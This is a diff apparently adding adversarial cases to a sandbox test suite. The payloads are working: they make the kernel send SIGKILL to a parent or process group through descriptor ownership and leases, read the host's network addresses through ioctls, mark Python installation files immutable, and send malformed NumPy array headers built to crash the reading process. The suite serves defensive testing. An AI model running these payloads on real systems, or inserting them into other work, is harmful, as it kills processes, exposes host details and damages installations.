@@ -762,3 +762,96 @@ trick(
     "asks for privileges",
     stock=False,
 )
+
+
+# The kernel as an errand boy: it sends signals for the owner of a descriptor.
+SHOOT = """
+import contextlib, fcntl, os, signal, socket, struct
+def hostile_shot(aim, trigger):
+    reader, writer = socket.socketpair()
+    steps = [aim, lambda fd: fcntl.fcntl(fd, 10, int(signal.SIGKILL)), trigger]
+    for step in steps:
+        with contextlib.suppress(OSError):
+            step(reader.fileno())
+    writer.send(b"x")
+def hostile_async(fd):
+    fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
+def hostile_ioasync(fd):
+    fcntl.ioctl(fd, 0x5452, struct.pack("i", 1))
+parent = os.getppid() or 1
+"""
+trick(
+    "signal-by-owner",
+    SHOOT + "hostile_shot(lambda fd: fcntl.fcntl(fd, fcntl.F_SETOWN, parent), hostile_async)",
+    "makes its parent the owner of a descriptor that sends a deadly signal",
+)
+trick(
+    "signal-by-owner-ex",
+    SHOOT + "hostile_shot(lambda fd: fcntl.fcntl(fd, 15, struct.pack('ii', 1, parent)), hostile_ioasync)",
+    "makes its parent the owner of a descriptor, in the newer way",
+)
+trick(
+    "signal-by-socket",
+    SHOOT + "hostile_shot(lambda fd: fcntl.ioctl(fd, 0x8901, struct.pack('i', parent)), hostile_ioasync)",
+    "makes its parent the owner of a socket",
+)
+trick(
+    "signal-by-group",
+    SHOOT + "hostile_shot(lambda fd: fcntl.fcntl(fd, fcntl.F_SETOWN, -os.getpgid(0)), hostile_async)",
+    "makes its group of processes the owner of a descriptor",
+)
+trick(
+    "signal-by-lease",
+    SHOOT
+    + "f = open('leased', 'w')\nhostile_shot(lambda fd: (fcntl.fcntl(f.fileno(), fcntl.F_SETOWN, parent), fcntl.fcntl(f, 1024, fcntl.F_WRLCK)), hostile_async)\nos.open('leased', os.O_RDONLY | os.O_NONBLOCK)",
+    "asks for a signal to its parent when somebody opens a file",
+)
+trick(
+    "interfaces-of-the-network",
+    "import fcntl, struct\nfor fd in range(3, 20):\n    for code in (0x8912, 0x8927, 0x891B, 0x894C):\n        try:\n            print(fcntl.ioctl(fd, code, struct.pack('16s24s', b'eth0', b'')))\n        except OSError:\n            pass",
+    "asks a socket that it got for the addresses of the machine",
+)
+trick(
+    "flags-of-a-file",
+    "import fcntl, numpy, os, struct\nfor path in (numpy.__file__, os.__file__, '.'):\n    try:\n        fcntl.ioctl(os.open(path, os.O_RDONLY), 0x40086602, struct.pack('l', 0x10))\n    except OSError as e:\n        print(e)",
+    "makes files of the Python installation unchangeable",
+)
+
+# What NumPy makes of the header of an array.
+HEADER = """
+def hostile_array(descr, shape="()"):
+    head = repr({"descr": descr, "fortran_order": False, "shape": ()}).replace("()", shape).encode() + b"\\n"
+    blob = b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", len(head)) + head + bytes(8)
+    head = json.dumps([["array", 0], [len(blob)]]).encode()
+    return struct.pack(">4sB3sIQ", b"GRDW", 1, b"\\0\\0\\0", len(head), len(blob)) + head + blob
+"""
+HEADERS = {
+    "date": ("'<M8[2s/0]'", "in units that end the process that reads it"),
+    "time": ("'<m8[7D/0]'", "of times in units that end the process that reads it"),
+    "record": ("[('a', '<M8[2s/0]')]", "of records that end the process that reads it"),
+    "wide": ("'<U536870911'", "of texts as long as NumPy can say"),
+    "nested": ("[('a', [('b', '<f8', (1,) * 32)], (1,) * 32)]", "of arrays within records within arrays"),
+    "commas": ("','.join(['f8'] * 3000)", "whose type is a list in a text"),
+}
+for name, (descr, says) in HEADERS.items():
+    trick(
+        f"header-{name}",
+        FDS + FRAME + HEADER + f"for fd in hostile_descriptors():\n    hostile_write(fd, hostile_array({descr}))",
+        f"sends an array {says}",
+    )
+trick(
+    "header-shape",
+    FDS
+    + FRAME
+    + HEADER
+    + "for fd in hostile_descriptors():\n    hostile_write(fd, hostile_array('<f8', '(2**62, 2**62, 0)'.replace('2**62', str(2**62))))",
+    "sends an array of no elements and a shape beyond all numbers",
+)
+trick(
+    "header-in-call",
+    FDS + FRAME + HEADER,
+    "answers a test's call with an array that ends the process that reads it",
+    answers=running(
+        "for fd in hostile_descriptors():\n    hostile_write(fd, hostile_array('<M8[2s/0]'))\nreturn values"
+    ),
+)
